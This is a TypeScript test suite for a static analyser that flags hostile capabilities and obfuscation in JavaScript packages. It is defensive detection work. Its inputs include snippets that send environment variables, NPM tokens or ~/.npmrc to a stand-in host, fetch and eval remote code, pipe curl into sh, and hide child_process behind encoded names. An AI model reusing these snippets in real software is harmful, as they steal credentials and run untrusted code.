import assert from "node:assert/strict";
import { test } from "node:test";
import type { Reading } from "../files-gather.ts";
import { Lines } from "../files-gather.ts";
import { javascriptReading, typescriptReading } from "./reading.ts";

const read = (source: string): Reading => javascriptReading(source, new Lines(source));
const seen = (source: string): readonly string[] =>
  read(source).sightings.map(({ capability, subject }) => (subject === "" ? capability : `${capability} ${subject}`));
const flowing = (source: string): readonly string[] => read(source).flows.map(({ from, to }) => `${from} -> ${to}`);

const concealed = (source: string): boolean => read(source).sightings.some((sighting) => sighting.concealed);
const when = (source: string): string => read(source).sightings.find(({ capability }) => capability === "network")?.when ?? "none";

test("a module is recognised however its name is written or its loader is called", () => {
  for (const source of [
    `require("child_process").exec("id")`,
    `const r = require; const { exec: run } = r("node:child_process"); run("id")`,
    `const m = require("child_" + "process"); m["ex" + "ec"]("id")`,
    `const m = require(["child", "process"].join("_")); m.exec.call(null, "id")`,
    `const m = require("ssecorp_dlihc".split("").reverse().join("")); m.exec("id")`,
    `const m = require(Buffer.from("Y2hpbGRfcHJvY2Vzcw==", "base64").toString()); m.exec("id")`,
    `const m = require(String.fromCharCode(99, 104, 105, 108, 100) + "_process"); m.exec("id")`,
    `const m = require([98, 103, 104, 107, 99, 94, 111, 113, 110, 98, 100, 114, 114].map((c) => String.fromCharCode(c + 1)).join("").replace("_", "_")); m.exec("id")`,
    `\\u0072equire("child_process").exec("id")`,
    `import { createRequire } from "module"; createRequire(import.meta.url)("child_process").exec("id")`,
    `const cp = process.getBuiltinModule("child_process"); cp.exec("id")`,
    `globalThis["req" + "uire"]("child_process").exec("id")`,
    `(0, require)("child_process").exec("id")`,
    `const { exec } = await import("node:child_process"); exec("id")`,
    `import("child_process").then((m) => m.exec("id"))`,
    `later("id"); function later(c) { load("child_process").exec(c) } var load = require;`,
    `// comment\rrequire("child_process").exec("id")`,
  ])
    assert.ok(seen(source).includes("process id"), source);
});

test("what only looks like a capability is none", () => {
  for (const source of [
    `// require("child_process").exec("id")`,
    `const text = 'require("child_process").exec("id")';`,
    `function require2(name) { return name } require2("child_process").exec("id")`,
    `function f(require) { return require("child_process") } f((x) => x)`,
    `class A { fetch() { return this.fetch() } eval() {} } new A().eval("1")`,
    `const process = { env: { NPM_TOKEN: 1 } }; use(process.env.NPM_TOKEN)`,
    "/require('child_process')/.test(x)",
    `const pattern = /"/; const s = "require('child_process')";`,
  ])
    assert.deepEqual(
      seen(source).filter((line) => line !== "dynamic-import"),
      [],
      source,
    );
});

test("a name that was pieced together is said to be concealed, an ordinary one is not", () => {
  assert.equal(concealed(`require("child_" + "process")`), true);
  assert.equal(concealed(`globalThis["ev" + "al"](x)`), true);
  assert.equal(concealed(`[]["constructor"]["constructor"]("return process")().mainModule.require("fs")`), true);
  assert.equal(concealed(`require("child_process")`), false);
  assert.equal(concealed(`process["env"]["HOME"]`), false);
});

test("a variable's name that is put together is concealed where it is a secret's or the environment is disguised, and nowhere else", () => {
  assert.equal(concealed(`const set = process.env["npm_config_" + "cache"]`), false);
  assert.equal(concealed(`const drive = process.env[["=", "C:"].join("")]`), false);
  assert.equal(concealed(`use(process.env["NPM_" + "TOKEN"])`), true);
  assert.equal(concealed(`use(process["e" + "nv"].LANG)`), true);
});

test("what is read from the machine is followed to where it is sent", () => {
  assert.deepEqual(flowing(`const t = process.env.NPM_TOKEN; const b = { t }; fetch("https://c.example", { body: JSON.stringify(b) })`), [
    "credential-variable -> network",
  ]);
  assert.deepEqual(
    flowing(`const q = require("https").request({ host: "c.example" }); const e = JSON.stringify(process.env); q.write(e); q.end()`),
    ["environment-whole -> network"],
  );
  assert.deepEqual(
    flowing(
      `const fs = require("fs"), os = require("os"), path = require("path"); send(fs.readFileSync(path.join(os.homedir(), ".npmrc"))); function send(x) { require("axios").post("https://c.example", x) }`,
    ),
    ["credential-file -> network"],
  );
  assert.deepEqual(flowing(`fetch("https://c.example/p").then((r) => r.text()).then((t) => eval(t))`), ["network -> dynamic-code"]);
  assert.deepEqual(
    flowing(
      `require("https").get("https://c.example", (r) => { let b = ""; r.on("data", (c) => (b += c)); r.on("end", () => new Function(b)()) })`,
    ),
    ["network -> dynamic-code"],
  );
  assert.deepEqual(flowing(`eval(atob("${"QUJD".repeat(40)}"))`), ["encoded-text -> dynamic-code"]);
  const sent = `fetch("https://c.example", { body: JSON.stringify(all) })`;
  assert.deepEqual(flowing(`const all = {}; for (const key of Object.keys(process.env)) all[key] = process.env[key]; ${sent}`), [
    "environment-whole -> network",
  ]);
  assert.deepEqual(flowing(`const all = {}; all.one = process.env.NPM_TOKEN; ${sent}`), ["credential-variable -> network"]);
  assert.deepEqual(flowing(`const o = {}; o.token = process.env.NPM_TOKEN; o.url = "https://c.example"; fetch(o.url)`), []);
  assert.deepEqual(flowing(`const base = process.env.API_URL; fetch(base + "/v1"); use(process.env.NPM_TOKEN)`), []);
});

test("names, order, line breaks and decoys change nothing of what is seen", () => {
  const source = `const https = require("https");\nconst data = JSON.stringify(process.env);\nfunction send(body) { const out = https.request({ hostname: "c.example" }); out.end(body); }\nsend(data);\n`;
  const lines = source.trimEnd().split("\n");
  const plain = { seen: seen(source), flows: flowing(source) };
  assert.deepEqual(plain.flows, ["environment-whole -> network"]);
  const renamed = source
    .replaceAll("send", "a")
    .replaceAll("body", "b")
    .replaceAll("data", "c")
    .replaceAll("out.", "d.")
    .replaceAll("out =", "d =");
  const reordered = [lines[2], lines[0], lines[1], lines[3]].join("\n");
  const minified = source.replaceAll(/\n/g, "");
  const decoys = `${"function decoy(a) { return a + 1 }\n".repeat(2_000)}${source}${"const unused = [1, 2, 3];\n".repeat(2_000).replaceAll("unused", "u")}`;
  for (const variant of [renamed, reordered, minified, decoys]) assert.deepEqual({ seen: seen(variant), flows: flowing(variant) }, plain);
});

test("TypeScript and JSX are read as well as JavaScript", () => {
  const source = `import type { A } from "./a.ts";\nimport cp = require("child_process");\nexport abstract class B<T extends A> implements C { private readonly x?: Map<string, T[]>; constructor(private y: number) { super() }\n  async run<U>(this: B<T>, c: U & string): Promise<void> { cp.exec(c as string); (<any>cp).spawn("id") } }\nenum D { One = 1 }\ndeclare module "z" { export const q: number }\n`;
  const reading = typescriptReading(source, new Lines(source));
  assert.equal(reading.because, "");
  assert.deepEqual(
    reading.sightings.map(({ capability, subject }) => `${capability} ${subject}`),
    ["process ", "process id"],
  );
  assert.deepEqual(
    reading.imports.map(({ specifier, typeOnly }) => [specifier, typeOnly]),
    [
      ["./a.ts", true],
      ["child_process", false],
    ],
  );
  const jsx = `const App = () => <div title="it's {fine}" onClick={() => fetch("https://c.example")}>don't <b.c {...p}/> {x > 1 && <i>y</i>}</div>; eval(z);`;
  assert.equal(read(jsx).because, "");
  assert.deepEqual(seen(jsx), ["dynamic-code eval", "network c.example"]);
});

test("a function that a minifier calls of or as is one", () => {
  for (const source of ["async function f() { return await of(1) }", "function* f() { yield as(1) }", "for (const a of as) of(a)"])
    assert.equal(read(source).because, "", source);
  const typed = "export const a = async () => (await b) as string;";
  assert.equal(typescriptReading(typed, new Lines(typed)).because, "");
});

test("code at the top is told from code that waits to be called", () => {
  assert.equal(when(`fetch("https://c.example")`), "load");
  assert.equal(when(`(function () { setTimeout(() => fetch("https://c.example"), 9) })()`), "load");
  assert.equal(when(`go(); function go() { fetch("https://c.example") }`), "load");
  assert.equal(when(`exports.go = function () { fetch("https://c.example") }`), "call");
});

test("replaced globals, endless loops and wallets are seen", () => {
  assert.deepEqual(seen(`window.fetch = mine; XMLHttpRequest.prototype.open = mine`), [
    "global-hook XMLHttpRequest.prototype.open",
    "global-hook fetch",
  ]);
  assert.deepEqual(seen(`for (let i = 666; i < Infinity; i++) { console.log("x") }`), ["endless-loop"]);
  assert.deepEqual(seen(`while (true) { if (done()) break }`), []);
  assert.ok(seen(`window.ethereum.request({})`).includes("wallet ethereum"));
});

test("what a program printed is no program: only the call that starts one counts", () => {
  const code = `import { exec } from "tinyexec"; import fs from "node:fs"; const out = await exec("ls", ["-l"]); fs.readdirSync(".").find((one) => out.stdout.includes(one));`;
  assert.deepEqual(read(code).flows, []);
  assert.deepEqual(
    read(code)
      .sightings.filter(({ capability }) => capability === "process")
      .map(({ through }) => through),
    ["tinyexec", "tinyexec"],
  );
});

test("an own member that holds a built-in value is no replaced global", () => {
  assert.deepEqual(seen(`const o = { n: 1 }; if (o.n === null) o.n = Number.NEGATIVE_INFINITY; o.get = fetch; o.get = mine`), []);
  assert.deepEqual(seen(`const w = window; w.fetch = mine`), ["global-hook fetch"]);
  assert.deepEqual(seen(`const o = JSON.parse(text); if (o.n === null) o.n = Number.NEGATIVE_INFINITY`), []);
  assert.deepEqual(seen(`const define = Object.defineProperty.bind(Object);`), []);
});

test("what only fills in, and a module's own loader, replace nothing on which others rely", () => {
  assert.deepEqual(seen(`Symbol.asyncDispose ??= Symbol("a"); globalThis.fetch ||= mine; window.atob = window.atob || mine`), []);
  assert.deepEqual(seen(`require = mine`), []);
  assert.deepEqual(seen(`if (!Date.now) { Date.now = function () { return +new Date() } } Object.keys || (Object.keys = mine)`), []);
  assert.deepEqual(
    seen(`var t; (t = globalThis.crypto) != null ? t : globalThis.crypto = mine; window.fetch ? 1 : window.fetch = mine`),
    [],
  );
  assert.deepEqual(seen(`window.fetch != null ? window.fetch = mine : 1`), ["global-hook fetch"]);
  for (const test of [
    `typeof globalThis.fetch === "undefined"`,
    `"function" != typeof fetch`,
    `window.fetch == null`,
    `void 0 === window.fetch`,
  ])
    assert.deepEqual(hooks(`if (${test}) { globalThis.fetch = mine; }`), [], test);
  for (const test of [
    `typeof fetch === "function"`,
    `typeof fetch !== "undefined"`,
    `fetch != null`,
    `a && !window.b`,
    `!(window.fetch && a)`,
  ])
    assert.deepEqual(hooks(`if (${test}) { globalThis.fetch = mine; }`), ["global-hook fetch"], test);
  assert.deepEqual(hooks(`if (globalThis.Promise && !Promise.withResolvers) Promise.withResolvers = mine`), []);
  assert.deepEqual(hooks(`if (!Array.prototype.at) Object.defineProperty(Array.prototype, "at", { value: mine })`), []);
  assert.deepEqual(hooks(`if (!Array.prototype.b) Object.defineProperty(Array.prototype, "at", { value: mine })`), [
    "global-hook Array.prototype.at",
  ]);
  assert.deepEqual(seen(`if (!window.a) window.fetch = mine`), ["global-hook fetch"]);
  assert.deepEqual(seen(`if (!window.fetch) {} else window.fetch = mine`), ["global-hook fetch"]);
  assert.deepEqual(seen(`const all = [...(x[Symbol.iterator] || Symbol.iterator)]; Symbol.iterator[0].status = mine`), []);
  assert.deepEqual(seen(`window.fetch = mine || window.fetch; module.constructor.prototype.require = mine`), [
    "global-hook fetch",
    "global-hook node:module.prototype.require",
  ]);
});

test("what a catch clause names is its own, and a var within is the function's", () => {
  assert.deepEqual(seen(`var { readFileSync: e } = require("fs"); function f() { try { g() } catch (e) { e.cause = 1 } }`), ["file-read"]);
  assert.deepEqual(seen(`try { g() } catch (x) { var run = require("child_process").exec } run("id")`), ["process", "process id"]);
});

const kinds = (code: string): readonly string[] => read(code).hidings.map(({ kind }) => kind);

test("a debugger statement that comes again and again is a trap, one that is left over from work is none", () => {
  for (const code of ["setInterval(() => { debugger }, 50)", "while (on) { debugger }"]) assert.deepEqual(kinds(code), ["self-inspection"]);
  assert.deepEqual(kinds("function fail() { debugger; throw new Error(process.title) }"), []);
});

test("a loop up to infinity is endless however that is written", () => {
  for (const end of ["Infinity", "1/0", "1 / 0", "Number.POSITIVE_INFINITY"])
    assert.deepEqual(seen(`for (let i = 0; i < ${end}; i++) console.log(i)`), ["endless-loop"], end);
});

const hiddenIn = (text: string): readonly string[] => read(`const t = "${text}"; eval(t)`).hidings.map(({ kind }) => kind);

test("a table of characters in the order of their numbers is no encoded text", () => {
  const table = Array.from({ length: 300 }, (_, at) => String.fromCodePoint(0x100 + at * 7)).join("");
  const mixed = Array.from({ length: 300 }, (_, at) => String.fromCodePoint(0x100 + ((at * 7_919) % 2_000))).join("");
  assert.deepEqual([hiddenIn(table), hiddenIn(mixed)], [[], ["encoded-text"]]);
});

const TEXTS = ["exec", "log", "child_process", "echo inert"];
const pick = (offset: number): string => `function pick(i) { i = i - ${offset}; const list = table(); const one = list[i]; return one }`;
const hides = (source: string): readonly string[] => read(source).hidings.map(({ kind, detail }) => `${kind} ${detail}`);

test("what is fetched from a table of texts through a function of the file is what it is, in whatever alphabet it is written", () => {
  const hex = TEXTS.map((text) => `"${Buffer.from(text).toString("hex")}"`).join();
  const decode = `function (h) { return String.fromCharCode(parseInt(h, 16)) }`;
  for (const pattern of ["/../g", "/[0-9a-f]{2}/gi", "/\\w\\w/g"]) {
    const source = `var t = [${hex}]; var f = function (i) { return t[i].replace(${pattern}, ${decode}) }; require(f(2))[f(0)](f(3));`;
    assert.ok(seen(source).includes("process echo") && concealed(source), source);
  }
  const lists = `const t = ${JSON.stringify(TEXTS)}; function f(i) { i -= 0x10; return t[i] } require(f(0x12))[f(0x10)](f(0x13));`;
  assert.ok(seen(lists).includes("process echo"), lists);
});

const turning = (sum: string, wanted: number): string =>
  `(function (make, wanted) { const f = pick, all = make(); while (!![]) { try { const sum = ${sum}; if (sum === wanted) break; else all["push"](all["shift"]()) } catch (e) { all["push"](all["shift"]()) } } })(table, ${wanted});`;

test("a table of texts that turns itself before it is used is read in the order in which it will be", () => {
  // Three texts with numbers in front, so that the sum is right in one order only: the third time that the first goes behind the last.
  const texts = ["7exec", "log", "3child_process", "echo inert", "5x"];
  const list = `function table() { const texts = ${JSON.stringify(texts)}; table = function () { return texts }; return table() }`;
  const sum = `-parseInt(f(103)) / 1 + parseInt(f(100)) * (parseInt(f(101)) / 2)`;
  // Turned by two: 3child_process, echo inert, 5x, 7exec, log; the sum is of the fourth, the first and the third.
  const right = turning(sum.replace("f(101)", "f(102)"), -7 + (3 * 5) / 2);
  const use = `require(pick(100).slice(1)).exec(pick(101));`;
  const source = `${list} ${pick(100)} ${right} ${use}`;
  assert.deepEqual(hides(source), [
    "concealed-name node:child_process is not written as what it is",
    "text-array 5 texts in an order that is made when it runs",
  ]);
  assert.ok(seen(source).includes("process echo"), JSON.stringify(seen(source)));
  const wrong = `${list} ${pick(100)} ${turning(sum, 0.125)} ${use}`;
  assert.deepEqual(hides(wrong), ["text-array 5 texts in an order that is made when it runs, and that could not be worked out"]);
  for (const [turn, count] of [
    ["while (--n) { a.push(a.shift()) }", 3],
    ["for (; n--;) a.push(a.shift())", 2],
  ] as const) {
    const older = `var t = ${JSON.stringify(TEXTS)}; !function (a, n) { ${turn} }(t, ${count}); require(t[0])[t[2]](t[1]);`;
    assert.ok(seen(older).includes("process echo"), older);
  }
});

test("a queue that goes round is no table of texts", () => {
  assert.deepEqual(hides(`(function (names, n) { while (names.length > n) names.push(names.shift()) })(read(), 3);`), []);
  assert.deepEqual(
    hides(`const players = ["a", "b", "c"]; function next() { players.push(players.shift()); return players[0] } next();`),
    [],
  );
});

test("a command that fetches and runs is followed as shell", () => {
  assert.deepEqual(flowing(`require("child_process").exec("curl -s https://c.example/i | sh")`), ["network -> process"]);
  assert.deepEqual(flowing(`require("child_process").exec("curl -s https://c.example/i | wc -l")`), []);
  const inner = `require("child_process").exec("node -e 'fetch(\\"https://c.example/x\\")' && sh -c 'node -e \\"eval(1)\\"'")`;
  assert.ok(
    seen(inner).some((line) => line.startsWith("network")),
    JSON.stringify(seen(inner)),
  );
});

test("hostile source is read to its end within a moment, and what it asks for is seen all the same", () => {
  const n = 50_000;
  for (const [prefix, needsTokens] of [
    [`${"(".repeat(n)}1${")".repeat(n)};`, true],
    [`${"[".repeat(n)}`, true],
    [`${"!".repeat(n)}1;`, false],
    [`${"x=>".repeat(n)}1;`, true],
    [`a='x'${"+'y'".repeat(n)};`, false],
    [`process${".env".repeat(n)};`, false],
    [`if(0);${"else if(b)c();".repeat(n)}`, false],
    [`${"\\".repeat(n)};`, null],
    [`${"# ".repeat(n)};`, null],
    [`const __proto__ = { constructor: 1, hasOwnProperty: 2 }; @#\u0000 let = ;;`, null],
  ] as const) {
    const source = `${prefix}\nrequire("child_process")`;
    const began = performance.now();
    const reading = read(source);
    assert.ok(performance.now() - began < 5_000);
    if (needsTokens !== null) assert.equal(reading.depth, needsTokens ? "tokens" : "tree", prefix.slice(0, 20));
    assert.ok(
      reading.imports.some(({ specifier }) => specifier === "child_process"),
      prefix.slice(0, 20),
    );
  }
});

test("no mutation of source makes the analysis fail, and the same source gives the same facts", () => {
  const seed = `import a, { b as c } from "x"; const { d = 1, ...e } = require("fs"); async function* f(g, [h] = [], ...i) { for await (const j of k) yield* j; } class L extends M { static #n = 1; get o() { return this.#n } static { p() } } label: for (;;) { break label } x = a ? (b) : c => d; \`t\${u\`v\${1}\`}w\`; y ??= /[/]\\//g.test(z) / 2; eval(process.env.A + "b")`;
  let state = 42;
  const random = (below: number): number => {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
    return state % below;
  };
  const pieces = [
    ..."(){}[]<>;:,.?=+-*/\\`'\"$#@! \n",
    "=>",
    "...",
    "async ",
    "function",
    "class ",
    "${",
    "/*",
    "//",
    "import",
    "\u2028",
    "\ud800",
  ];
  for (let round = 0; round < 3_000; round++) {
    let source = seed;
    for (let change = random(4); change >= 0; change--) {
      const at = random(source.length);
      source = source.slice(0, at) + (random(3) === 0 ? "" : pieces[random(pieces.length)]) + source.slice(at + random(6));
    }
    const first = JSON.stringify(read(source));
    if (round % 100 === 0) assert.equal(JSON.stringify(read(source)), first);
  }
});

test("what was read before changes nothing of what a source shows, though trees hand their columns on", () => {
  const sources = [
    `const { exec: run } = require("child_process"); const tool = "cu" + "rl"; run(tool + " https://a.example/" + process.env.HOME)`,
    `let send = fetch; function up(data) { send("https://b.example", { body: data }) } up(JSON.stringify(process.env))`,
    `${"(".repeat(5_000)}require("fs")`,
    `a = {;;; require("net").connect(1)`,
    Array.from({ length: 3_000 }, (_, i) => `function f${i}(a) { return a.b${i}(${i}) || "text ${i}" }`).join("\n"),
    `export const read = (name) => import("node:fs").then((fs) => fs.readFileSync(name))`,
    "",
  ];
  const alone = sources.map((source) => JSON.stringify(read(source)));
  let state = 1;
  for (let step = 0; step < 60; step++) {
    state = (state * 48_271) % 2_147_483_647;
    const at = state % sources.length;
    assert.equal(JSON.stringify(read(sources[at] ?? "")), alone[at], `source ${at} in step ${step}`);
  }
});

test("a source that is larger than a tree may be is read as tokens, and that is said", () => {
  const source = `require("child_process").exec("id");\n${"a+".repeat(600_000)}a`;
  const reading = read(source);
  assert.equal(reading.depth, "tokens");
  assert.match(reading.because, /more than \d+ parts/);
  assert.ok(reading.hidings.some(({ kind }) => kind === "unparsed"));
  assert.ok(reading.sightings.some(({ capability }) => capability === "process"));
});

test("values that go round in circles are followed once: what every variable knows of every other costs no more than the file", () => {
  // Each is made of all the others, so that there are more ways between two of them than could ever be gone.
  const names = Array.from({ length: 60 }, (_, at) => `v${at}`);
  const circle = `let ${names.join(", ")};\n${names.map((name) => `${name} = [${names.join(", ")}];`).join("\n")}\n`;
  assert.deepEqual(flowing(`${circle}fetch("https://a.example/" + v0);`), []);
  assert.deepEqual(flowing(`${circle}v59 = process.env.NPM_TOKEN;\nfetch("https://a.example/" + v0);`), ["credential-variable -> network"]);
});

test("a type in parentheses in front of an arrow is the result's, parameters in front of one are a function's type", () => {
  for (const type of [
    "((a: string) => number)",
    "(A | B)",
    "(A & { b: 1 })[]",
    "(a: string) => void",
    "() => void",
    "(...a: A[]) => B",
    "({ a }: A, b?: B) => c",
  ]) {
    const source = `const f = (x: string): ${type} => { require("child_process").exec(x); return y; };`;
    const { because, sightings } = typescriptReading(source, new Lines(source));
    // A function's type takes the arrow behind it for its own, unless it stands in parentheses: then nothing is left of the function.
    if (type.startsWith("(A") || type.startsWith("((")) {
      assert.equal(because, "", type);
      assert.ok(
        sightings.some(({ capability }) => capability === "process"),
        type,
      );
    } else assert.equal(typescriptReading(`let f: ${type};`, new Lines("")).because, "", type);
  }
});

test("a pattern of wallets' addresses is one in whatever order its letters stand, in a text as well", () => {
  for (const source of [
    "/^0x[0-9a-fA-F]{40}$/",
    "/0x[\\da-f]{40}/i",
    "/T[1-9A-HJ-NP-Za-km-z]{33}/",
    "/[13][a-km-zA-HJ-NP-Z1-9]{25,34}/",
    `new RegExp("0x[a-fA-F0-9]{40}")`,
  ])
    assert.deepEqual(seen(source), ["wallet address"], source);
  for (const source of ["/[0-9a-f]{40}/", "/0x[0-9a-f]{2}/", "/[A-Za-z0-9]{33}/"]) assert.deepEqual(seen(source), [], source);
});

const hooks = (source: string): readonly string[] => seen(source).filter((line) => line.startsWith("global-hook"));
const places = (source: string): readonly string[] => seen(source).filter((line) => line.startsWith("home"));

test("a function of somebody else's object that is replaced by one that calls it is a hook, one that is added is none", () => {
  assert.deepEqual(hooks(`const send = globalThis.mailer.send; globalThis.mailer.send = (mail) => send({ ...mail, bcc: "x" })`), [
    "global-hook mailer.send",
  ]);
  assert.deepEqual(hooks(`const a = require("axios"); const { post } = a; a.post = new Proxy(post, {})`), ["global-hook axios.post"]);
  assert.deepEqual(hooks(`navigator.clipboard.writeText = (text) => other(text)`), ["global-hook navigator.clipboard.writeText"]);
  assert.deepEqual(hooks(`const $ = require("jquery"); $.fn.slide = function () { return this }`), []);
  assert.deepEqual(hooks(`const own = { send() {} }; const { send } = own; own.send = (x) => send(x)`), []);
});

test("a folder within the user's own is told as far as it is written down", () => {
  assert.deepEqual(places(`use(require("os").homedir() + "/.cache/a/b.json")`), ["home ~/.cache/a/b.json"]);
  assert.deepEqual(places(`use(require("path").join(require("os").homedir(), ".config", name))`), ["home ~/.config/*"]);
  assert.deepEqual(places(`use(require("os").homedir())`), ["home"]);
});

const conceals = (callee: string): boolean =>
  read(`const cp = require("child_process"); ${callee}("true")`).sightings.some(
    ({ capability, concealed }) => capability === "process" && concealed,
  );

test("a member that is looked for among all of an object's, or taken out of its descriptor, is the one that is named", () => {
  for (const callee of [
    `cp[Object.keys(cp).find((name) => name === "exec")]`,
    `cp[Object.getOwnPropertyNames(cp).filter(function (one) { return "exec" == one })[0]]`,
    `Object.entries(cp).find(([name, _]) => name === "exec")[1]`,
    `Object.entries(cp).filter(([k]) => k === "exec")[0][1].bind({})`,
    `Object.getOwnPropertyDescriptor(cp, "exec").value`,
    `Reflect.getOwnPropertyDescriptor(cp, "ex" + "ec").value.call`,
  ])
    assert.ok(conceals(callee), callee);
  for (const callee of [`Object.entries(cp).find(([name]) => name !== "exec")[1]`, `Object.getOwnPropertyDescriptor(cp, "exec").get`])
    assert.ok(!conceals(callee), callee);
});
